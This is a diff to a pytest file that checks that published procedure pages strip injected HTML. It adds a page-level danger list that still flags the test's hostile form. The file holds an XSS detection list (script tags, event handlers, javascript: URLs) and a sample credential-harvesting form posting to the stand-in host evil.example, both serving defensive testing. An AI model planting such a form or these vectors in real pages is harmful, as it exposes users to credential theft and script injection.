@@ -24,6 +24,8 @@ HOSTILE = {
     "form": '<form action="https://evil.example"><input name="password"></form>',
 }
 DANGER = ["<script", "onerror", "onmouseover", "javascript:", "data:text", "<iframe", "<svg", "<style", "style=", "<form", "<input"]
+# A whole page has its own forms (search, feedback); the hostile form must still be gone.
+PAGE_DANGER = [d for d in DANGER if d not in ("<form", "<input")] + ["evil.example", 'name="password"']
 
 
 @pytest.mark.parametrize("payload", HOSTILE.values(), ids=HOSTILE.keys())
@@ -40,7 +42,7 @@ def test_no_section_lets_a_script_reach_the_page(client, make_procedure, make_dr
     version = make_draft(procedure, **{section.field: "Safe words.\n\n" + payload})
     version.publish()
     body = client.get(procedure.get_absolute_url()).content.decode().lower()
-    for danger in DANGER:
+    for danger in PAGE_DANGER:
         assert danger not in body, danger
     assert "safe words." in body
 
